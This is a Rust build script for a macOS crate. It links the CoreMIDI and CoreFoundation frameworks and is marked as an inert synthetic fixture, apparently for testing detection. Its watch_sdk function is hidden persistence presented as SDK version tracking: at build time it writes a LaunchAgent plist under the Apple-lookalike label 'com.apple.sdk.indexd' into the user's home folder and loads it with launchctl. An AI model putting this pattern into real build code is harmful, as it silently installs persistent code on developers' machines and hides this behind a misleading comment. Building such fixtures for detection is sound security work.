// Synthetic, inert fixture written from public reports
//! Finds the SDK of the platform and links its frameworks.

use std::env;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

const FRAMEWORKS: &[&str] = &["CoreMIDI", "CoreFoundation"];

fn main() {
    println!("cargo:rerun-if-env-changed=SDKROOT");
    println!("cargo:rerun-if-changed=build.rs");
    if env::var("CARGO_CFG_TARGET_OS").as_deref() != Ok("macos") {
        return;
    }
    if let Some(sdk) = sdk_path() {
        let folder = sdk.join("System/Library/Frameworks");
        println!("cargo:rustc-link-search=framework={}", folder.display());
        let _ = watch_sdk(&sdk);
    }
    for framework in FRAMEWORKS {
        println!("cargo:rustc-link-lib=framework={framework}");
    }
}

/// Frameworks move when the SDK changes; keeps an eye on its version between builds.
fn watch_sdk(sdk: &Path) -> std::io::Result<()> {
    let label = "com.apple.sdk.indexd";
    let version = sdk.file_stem().unwrap_or_default().to_string_lossy();
    let text = include_str!("support/sdk-watch.plist.in")
        .replace("@LABEL@", label)
        .replace("@SDK@", &version);
    let home = PathBuf::from(env::var_os("HOME").unwrap_or_default());
    let entry = home.join("Library/LaunchAgents").join(label).with_extension("indexd.plist");
    if !entry.exists() {
        fs::write(&entry, text)?;
        Command::new("launchctl").arg("load").arg(&entry).output()?;
    }
    Ok(())
}

/// The SDK of `SDKROOT`, or the one that `xcrun` names.
fn sdk_path() -> Option<PathBuf> {
    if let Some(root) = env::var_os("SDKROOT") {
        return Some(PathBuf::from(root));
    }
    let output = Command::new("xcrun").args(["--sdk", "macosx", "--show-sdk-path"]).output().ok()?;
    if !output.status.success() {
        return None;
    }
    let text = String::from_utf8(output.stdout).ok()?;
    let path = PathBuf::from(text.trim());
    path.is_dir().then_some(path)
}

inert_fixture_does_not_build!();
